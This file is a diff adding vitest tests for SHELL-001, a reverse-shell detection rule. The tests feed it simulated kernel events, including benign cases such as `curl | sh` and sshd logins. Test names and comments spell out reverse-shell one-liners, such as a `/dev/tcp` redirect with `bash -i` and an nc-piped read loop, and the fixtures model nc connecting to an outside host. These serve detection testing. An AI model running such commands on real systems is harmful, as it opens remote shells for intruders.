@@ -1,0 +1,125 @@
+/**
+ * SHELL-001 over hand-made event sequences shaped like what the kernel reports (the kernel tier
+ * runs the programs): a read loop fed through a pipe, the split shell, a renamed shell running
+ * commands; and the benign sides: `curl … | sh`, a login's `sh -s` under sshd, a data pipeline.
+ */
+import { describe, expect, it } from "vitest";
+import { Engine, ProcessTable, builtinRules, createShell001Rule, type Finding, type SensorEvent } from "sockeye";
+import { at, connectedOut, exit, inet, pipe, proc, silentLogger, start, tty } from "../engine/fixtures.js";
+import { fakeHost } from "../host/fake-host.js";
+
+const SOCK = 9001;
+
+function run(events: SensorEvent[], all = false) {
+  const host = fakeHost();
+  const rules = all ? builtinRules() : [createShell001Rule()];
+  const engine = new Engine({ rules, processes: new ProcessTable({ host }), hostName: "h", now: () => at(0), logger: silentLogger });
+  const findings: Finding[] = [];
+  for (const e of events) findings.push(...engine.handle(e));
+  return findings;
+}
+
+type Behaviour = Finding & { sockeye: { verdict: { identified_by: string }; behaviour: { interpreter: { pid: number }; commands: { args: string[] }[] } } };
+
+const bash = proc(100, 1, "bash");
+const cat = proc(101, 100, "cat");
+const loop = proc(102, 100, "bash");
+const command = (pid: number, parent: number, args: string[], stdio: Parameters<typeof start>[3], ms: number) =>
+  [...start(proc(pid, parent, args[0]!), `/usr/bin/${args[0]}`, args, stdio, ms), exit({ task: proc(pid, parent, args[0]!), timeMs: at(ms + 1) })];
+
+describe("SHELL-001: a command interpreter by what it does", () => {
+  it("the read loop fed through a pipe: `cat <&5 | while read line; do $line >&5; done`, one finding at the second command", () => {
+    const findings = run([
+      connectedOut(bash, SOCK, 0),
+      ...start(cat, "/usr/bin/cat", ["cat"], [inet(SOCK), pipe(11), tty(1)], 10),
+      ...command(200, 102, ["id"], [pipe(11), inet(SOCK), inet(SOCK)], 100),
+      ...command(201, 102, ["uname", "-a"], [pipe(11), inet(SOCK), inet(SOCK)], 200),
+      ...command(202, 102, ["ls"], [pipe(11), inet(SOCK), inet(SOCK)], 300),
+    ], true);
+    expect(findings.map((f) => f.rule.id)).toEqual(["SHELL-001"]);
+    const f = findings[0] as Behaviour;
+    expect(f.sockeye.verdict.identified_by).toBe("behaviour");
+    expect(f.sockeye.behaviour.interpreter.pid).toBe(loop.pid);
+    expect(f.sockeye.behaviour.commands.map((c) => c.args[0])).toEqual(["id", "uname"]);
+  });
+
+  it("the split shell `nc H P1 | bash -i >& /dev/tcp/H/P2`: at bash's exec, by name, even when nc connects after it", () => {
+    const nc = proc(110, 100, "nc");
+    const sh = proc(111, 100, "bash");
+    const findings = run([
+      ...start(nc, "/usr/bin/nc", ["nc", "10.0.0.66", "4444"], [tty(1), pipe(21), tty(1)], 0),
+      ...start(sh, "/usr/bin/bash", ["bash", "-i"], [pipe(21), inet(SOCK + 1), inet(SOCK + 1)], 1),
+      connectedOut(nc, SOCK, 5),
+      ...command(300, 111, ["id"], [pipe(21), inet(SOCK + 1), inet(SOCK + 1)], 100),
+      ...command(301, 111, ["id"], [pipe(21), inet(SOCK + 1), inet(SOCK + 1)], 200),
+    ], true);
+    expect(findings.map((f) => f.rule.id)).toEqual(["SHELL-001"]);
+    expect((findings[0] as Behaviour).sockeye.verdict.identified_by).toBe("name");
+    expect(findings[0]!.process.pid).toBe(111);
+  });
+
+  it("a renamed shell (no name, no content known) behind `nc | X | nc`: its commands decide", () => {
+    const nc1 = proc(120, 100, "nc");
+    const x = proc(121, 100, "k3f9");
+    const nc2 = proc(122, 100, "nc");
+    const findings = run([
+      ...start(nc1, "/usr/bin/nc", ["nc", "h", "1"], [tty(1), pipe(31), tty(1)], 0),
+      ...start(x, "/tmp/q/k3f9", ["k3f9"], [pipe(31), pipe(32), pipe(32)], 1),
+      ...start(nc2, "/usr/bin/nc", ["nc", "h", "2"], [pipe(32), tty(1), tty(1)], 2),
+      connectedOut(nc1, SOCK, 5),
+      connectedOut(nc2, SOCK + 1, 6),
+      ...command(400, 121, ["id"], [pipe(31), pipe(32), pipe(32)], 100),
+      ...command(401, 121, ["ls"], [pipe(31), pipe(32), pipe(32)], 200),
+    ]);
+    expect(findings.map((f) => f.rule.id)).toEqual(["SHELL-001"]);
+    expect((findings[0] as Behaviour).sockeye.verdict.identified_by).toBe("behaviour");
+  });
+
+  const quiet: { name: string; events: SensorEvent[] }[] = [
+    {
+      name: "curl … | sh: the commands' output goes to the caller, not back to the connection",
+      events: [
+        ...start(proc(130, 100, "curl"), "/usr/bin/curl", ["curl", "-s", "http://h/x"], [tty(1), pipe(41), tty(1)], 0),
+        connectedOut(proc(130, 100, "curl"), SOCK, 1),
+        ...start(proc(131, 100, "sh"), "/bin/sh", ["sh"], [pipe(41), tty(1), tty(1)], 1),
+        ...command(500, 131, ["id"], [pipe(41), tty(1), tty(1)], 100),
+        ...command(501, 131, ["ls"], [pipe(41), tty(1), tty(1)], 200),
+      ],
+    },
+    {
+      name: "ssh host 'sh -s' < script, the server's side: sshd accepted the connection, no outbound socket feeds the shell",
+      events: [
+        ...start(proc(140, 1, "sshd"), "/usr/sbin/sshd", ["sshd", "-R"], [inet(SOCK, "accepted"), inet(SOCK, "accepted"), tty(1)], 0),
+        ...start(proc(141, 140, "sh"), "/bin/sh", ["sh", "-s"], [pipe(51), pipe(52), pipe(53)], 10),
+        ...command(600, 141, ["id"], [pipe(51), pipe(52), pipe(53)], 100),
+        ...command(601, 141, ["ls"], [pipe(51), pipe(52), pipe(53)], 200),
+      ],
+    },
+    {
+      name: "a data pipeline `curl | gzip -d | nc` run twice: a new pipe each time",
+      events: [1, 2].flatMap((i) => [
+        ...start(proc(150 + 10 * i, 100, "curl"), "/usr/bin/curl", ["curl", "http://h/x"], [tty(1), pipe(60 + i), tty(1)], 100 * i),
+        connectedOut(proc(150 + 10 * i, 100, "curl"), SOCK + i, 100 * i + 1),
+        ...start(proc(151 + 10 * i, 100, "nc"), "/usr/bin/nc", ["nc", "h", "9"], [pipe(70 + i), tty(1), tty(1)], 100 * i),
+        connectedOut(proc(151 + 10 * i, 100, "nc"), SOCK + 10 + i, 100 * i + 1),
+        ...command(152 + 10 * i, 100, ["gzip", "-d"], [pipe(60 + i), pipe(70 + i), tty(1)], 100 * i + 2),
+      ]),
+    },
+  ];
+  it.each(quiet)("quiet: $name", ({ events }) => {
+    expect(run(events, true)).toEqual([]);
+  });
+});
+
+describe("SHELL-001: programs, not execs", () => {
+  it("`sh -c id` exec'ing id in place is one command: no finding until a second process", () => {
+    const events = [
+      connectedOut(bash, SOCK, 0),
+      ...start(cat, "/usr/bin/cat", ["cat"], [inet(SOCK), pipe(11), tty(1)], 10),
+      ...start(proc(200, 102, "sh"), "/bin/sh", ["sh", "-c", "id"], [pipe(11), inet(SOCK), inet(SOCK)], 100),
+      ...command(200, 102, ["id"], [pipe(11), inet(SOCK), inet(SOCK)], 101),
+    ];
+    expect(run(events)).toEqual([]);
+    expect(run([...events, ...command(201, 102, ["ls"], [pipe(11), inet(SOCK), inet(SOCK)], 200)]).map((f) => f.rule.id)).toEqual(["SHELL-001"]);
+  });
+});
